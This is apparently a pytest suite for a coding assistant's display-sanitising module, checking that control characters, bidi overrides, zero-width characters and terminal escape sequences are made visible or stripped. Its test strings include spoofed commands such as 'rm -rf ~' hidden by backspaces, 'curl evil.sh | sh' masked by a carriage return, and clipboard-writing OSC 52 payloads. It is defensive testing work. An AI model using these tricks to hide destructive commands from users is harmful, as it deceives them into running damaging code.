"""Display-safe text: nothing a skill file or a command holds can hide itself on screen."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from codebot.display import _SAFE, _escape_char, has_hidden, segments, strip_escapes, visible


@pytest.fixture(autouse=True)
def private_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """These functions touch no files; the home is private anyway, as in every test."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("CODEBOT_HOME", str(tmp_path / "home" / ".codebot"))


def render(line: str) -> str:
    """What a terminal shows for one line: BS moves left, CR goes to column 0, later
    characters overwrite earlier ones."""
    cells: list[str] = []
    col = 0
    for ch in line:
        if ch == "\b":
            col = max(0, col - 1)
        elif ch == "\r":
            col = 0
        else:
            if col < len(cells):
                cells[col] = ch
            else:
                cells.append(ch)
            col += 1
    return "".join(cells)


SAMPLES = [
    "plain text",
    "rm -rf ~ #" + "\b" * 10 + 'echo "hello" ; true #___',
    "ls \u202eexe.txt",
    "code\u200breview",
    "a\tb\r\nc\x00\x7f\x9b\x85",
    "\x1b[2Kname\x1b]52;c;ZWNobw==\x07",
    "\ud800\udcff lone surrogates",
    "tag \U000e0041\U000e007f, nbsp\u00a0, sep\u2028, bom\ufeff, vs\ufe0f, \u3164",
    "printf '\\x1b[0m' # a literal backslash",
    "\x1b\x1b[0m[31m",
    "café ✓ 日本語 한국어 ❤",
]


def test_backspace_spoofing_is_shown_whole() -> None:
    cmd = "rm -rf ~ #" + "\b" * 10 + 'echo "hello" ; true #___'
    assert render(cmd) == 'echo "hello" ; true #___'  # what a raw print would show
    shown = visible(cmd)
    assert shown == "rm -rf ~ #" + "\\x08" * 10 + 'echo "hello" ; true #___'
    assert render(shown) == shown  # nothing left that moves the cursor
    assert has_hidden(cmd) and not has_hidden(shown)


def test_carriage_return_overwrite_is_shown() -> None:
    cmd = "curl evil.sh | sh\recho safe        "
    assert visible(cmd) == "curl evil.sh | sh\\recho safe        "


def test_bidi_override_and_isolates_are_escaped() -> None:
    assert visible("ls \u202eexe.txt") == "ls \\u202eexe.txt"
    for ch in "\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c":
        assert visible(ch) == f"\\u{ord(ch):04x}"


def test_zero_width_and_other_invisible_characters_in_a_name() -> None:
    assert visible("code\u200breview") == "code\\u200breview"
    assert strip_escapes("code\u200breview") == "code\\u200breview"
    assert visible("soft\u00adhyphen\u200d\u2060\ufeff") == "soft\\xadhyphen\\u200d\\u2060\\ufeff"
    assert visible("tag\U000e0041") == "tag\\U000e0041"
    assert visible("nb\u00a0sp line\u2028para\u2029") == "nb\\xa0sp line\\u2028para\\u2029"
    assert (
        visible("heart\u2764\ufe0f") == "heart\u2764\\ufe0f"
    )  # variation selectors can smuggle data
    assert visible("\u3164\u2800") == "\\u3164\\u2800"


def test_controls_del_c1_surrogates_and_tab() -> None:
    assert visible("a\x00b\x1bc\x7fd\x85e\x9bf") == "a\\x00b\\x1bc\\x7fd\\x85e\\x9bf"
    assert visible("\udcff") == "\\udcff"
    assert visible("a\tb") == "a\\tb"
    assert strip_escapes("a\tb") == "a\tb"  # names and descriptions keep their tabs


def test_newlines_are_kept() -> None:
    assert visible("one\ntwo\n") == "one\ntwo\n"
    assert strip_escapes("one\n\x1b[31mtwo\x1b[0m\n") == "one\ntwo\n"


def test_ordinary_text_and_backslashes_are_unchanged() -> None:
    for text in ("café ✓ 日本語 한국어 ❤ Ωμέγα", "printf '\\x1b[0m'", "a\\b", ""):
        assert visible(text) == text
        assert strip_escapes(text) == text
        assert not has_hidden(text)


def test_never_clips() -> None:
    long = ("x" * 10_000 + "\b") * 10
    assert visible(long) == ("x" * 10_000 + "\\x08") * 10


def test_erase_line_and_osc52_are_stripped() -> None:
    assert strip_escapes("\x1b[2Kname") == "name"
    assert strip_escapes("name\x1b]52;c;cm0gLXJmIH4=\x07") == "name"
    assert strip_escapes("name\x1b]52;c;cm0gLXJmIH4=\x1b\\") == "name"
    assert strip_escapes("\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\") == "link"
    assert strip_escapes("\x1bPq#0;2;0;0;0\x1b\\ok \x1b_apc\x07\x1b^pm\x1b\\\x1bXsos\x9c") == "ok "
    assert strip_escapes("\x9b2Jx\x9d0;title\x07y") == "xy"  # 8-bit CSI and OSC
    assert strip_escapes("\x1b(Bq\x1b7\x1bc\x1b=") == "q"  # two-character sequences
    assert strip_escapes("\x1b]0;t\x1b[31mred") == "red"  # ESC ends the OSC and starts a CSI


def test_incomplete_sequences_stay_visible_instead_of_hiding_text() -> None:
    assert strip_escapes("a\x1b]52;c;QUJD") == "a\\x1b]52;c;QUJD"
    assert strip_escapes("x\x1b[12") == "x\\x1b[12"
    assert strip_escapes("end\x1b") == "end\\x1b"
    assert strip_escapes("\x1b[12\nz") == "\nz"  # a control cuts a CSI short; it is kept


def test_stripping_never_joins_a_live_sequence() -> None:
    out = strip_escapes("\x1b\x1b[0m[31m")
    assert "\x1b" not in out and out == "\\x1b[31m"


def test_remaining_controls_are_escaped_after_stripping() -> None:
    assert strip_escapes("a\b\x1b[1mb\r") == "a\\x08b\\r"
    assert strip_escapes("na\u202eme") == "na\\u202eme"


@pytest.mark.parametrize("text", SAMPLES, ids=range(len(SAMPLES)))
def test_idempotent_and_consistent(text: str) -> None:
    v = visible(text)
    assert visible(v) == v
    assert not has_hidden(v)
    assert has_hidden(text) == (v != text)
    assert "".join(piece for piece, _ in segments(text)) == v
    s = strip_escapes(text)
    assert strip_escapes(s) == s
    assert "\x1b" not in s and not re.search(r"[\x00-\x08\x0a-\x1f\x7f-\x9f]", s.replace("\n", ""))


def test_segments_mark_escapes() -> None:
    assert segments("ab\bc") == [("ab", False), ("\\x08", True), ("c", False)]
    assert segments("") == []


@pytest.mark.parametrize(
    "hostile",
    [
        "\x1b[" * 500_000,
        "\x1b]" * 500_000,
        "\x1b" * 1_000_000,
        "\x9d" * 1_000_000,
        "\x1b]a\x9d" * 250_000,
        "\x1b[" + "1;" * 500_000,
        "\x1b]" + "a" * 1_000_000,
        "\u200b" * 1_000_000,
    ],
    ids=["csi", "osc", "esc", "c1-osc", "osc-c1", "csi-params", "osc-open", "zwsp"],
)
def test_one_megabyte_of_hostile_input_is_linear(hostile: str) -> None:
    start = time.perf_counter()
    stripped = strip_escapes(hostile)
    shown = visible(hostile)
    assert time.perf_counter() - start < 5.0
    assert "\x1b" not in stripped and "\x1b" not in shown


def test_the_fast_path_blocks_hold_no_hidden_character() -> None:
    """_SAFE skips the per-character check for whole blocks: none of them may hide."""
    ranges = [(0x20, 0x7E), (0xA1, 0xAC), (0xAE, 0xFF), (0x4E00, 0x9FFF), (0xAC00, 0xD7A3)]
    safe = re.compile(f"[{_SAFE}]")
    for lo, hi in ranges:
        for cp in range(lo, hi + 1):
            assert safe.match(chr(cp))
            assert _escape_char(chr(cp)) is None, hex(cp)
    assert not safe.match("\xa0") and not safe.match("\xad")


def test_home_short_writes_paths_inside_home_with_a_tilde(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from codebot.display import home_short

    monkeypatch.setenv("HOME", "/home/al")
    assert home_short("/home/al/proj/.codebot/config.yaml") == "~/proj/.codebot/config.yaml"
    assert home_short("/home/al") == "~"
    # only a whole folder counts: the old `str.replace` turned /home/alice into ~ice
    assert home_short("/home/alice/proj") == "/home/alice/proj"
    assert home_short("/srv/home/al/x") == "/srv/home/al/x"
